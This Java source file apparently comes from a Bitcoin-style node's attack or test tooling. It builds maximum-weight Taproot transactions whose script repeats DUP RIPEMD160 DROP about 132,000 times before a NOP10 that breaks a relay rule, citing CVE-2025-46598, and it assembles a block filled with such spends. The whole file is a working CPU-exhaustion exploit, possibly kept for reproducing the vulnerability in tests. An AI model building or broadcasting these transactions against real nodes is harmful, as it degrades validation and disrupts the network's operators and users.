package weft.app.attack;

import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collections;
import java.util.List;
import weft.consensus.script.ScriptBuilder;
import weft.consensus.script.Taproot;
import weft.crypto.Secp256k1;
import weft.primitives.Block;
import weft.primitives.BlockHeader;
import weft.primitives.Bytes;
import weft.primitives.OutPoint;
import weft.primitives.Transaction;
import weft.primitives.TxIn;
import weft.primitives.TxOut;
import weft.primitives.Witness;

/// Transactions of the largest weight that is relayed, whose one script hashes all the time and then breaks
/// a rule of relay, not of blocks (CVE-2025-46598).
public final class SlowScript {
    /// So many fill a block.
    private static final int A_BLOCK = 10;

    /// The generator's coordinate: a key that everybody knows.
    private static final byte[] INTERNAL =
            Bytes.parse("79be667ef9dcbbac55a06295ce870b07029bfcdb2dce28d959f2815b16f81798")
                    .toByteArray();

    /// The largest element, hashed by the slowest hash again and again: DUP RIPEMD160 DROP.
    private static final Bytes HASHING = largest().plus(Bytes.parse("76a675".repeat(132_000)));

    private static final Bytes NOP10 = Bytes.parse("b9");

    /// Breaks the rule in the end.
    static final SlowScript LATE = new SlowScript(HASHING.plus(NOP10));

    /// Breaks the rule at once.
    static final SlowScript EARLY = new SlowScript(NOP10.plus(HASHING));

    private final Bytes script;

    private SlowScript(Bytes script) {
        this.script = script;
    }

    private static Bytes largest() {
        byte[] ones = new byte[520];
        Arrays.fill(ones, (byte) 1);
        return new ScriptBuilder().push(Bytes.wrap(ones)).build();
    }

    private Bytes tweaked() {
        byte[] root = Taproot.leafHash(Taproot.LEAF_TAPSCRIPT, script);
        return Bytes.wrap(
                Secp256k1.get()
                        .xOnlyTweakAdd(INTERNAL, Taproot.tweak(INTERNAL, root))
                        .orElseThrow());
    }

    /// Outputs that the script is for.
    List<TxOut> outputs(int count, long value) {
        var output = new TxOut(value, Bytes.parse("5120").plus(tweaked().from(1)));
        return Collections.nCopies(count, output);
    }

    /// Spends one of them.
    Transaction spend(OutPoint coin, long value) {
        byte[] first = {(byte) (Taproot.LEAF_TAPSCRIPT | (tweaked().at(0) & 1))};
        Bytes control = Bytes.wrap(first).plus(Bytes.wrap(INTERNAL));
        return Transaction.of(
                2,
                List.of(new TxIn(coin, Bytes.EMPTY, 0)),
                List.of(new TxOut(value, Bytes.parse("5120").plus(Bytes.wrap(INTERNAL)))),
                List.of(new Witness(List.of(script, control))),
                0);
    }

    /// Two blocks, the second of which is full of them.
    ///
    /// @param coin of a coinbase, open to everybody and mature
    public static List<Block> blocks(BlockHeader parent, int height, OutPoint coin) {
        Transaction coins =
                Transaction.of(
                        2,
                        List.of(new TxIn(coin, Bytes.EMPTY, 0)),
                        LATE.outputs(A_BLOCK, Ledger.COIN / A_BLOCK),
                        List.of(),
                        0);
        Block first = Ledger.on(parent, height, 0, List.of(coins));
        var slow = new ArrayList<Transaction>();
        for (int i = 0; i < A_BLOCK; i++) {
            slow.add(LATE.spend(new OutPoint(coins.txid(), i), Ledger.COIN / A_BLOCK - 1));
        }
        return List.of(first, Ledger.on(first.header(), height + 1, 0, slow));
    }
}
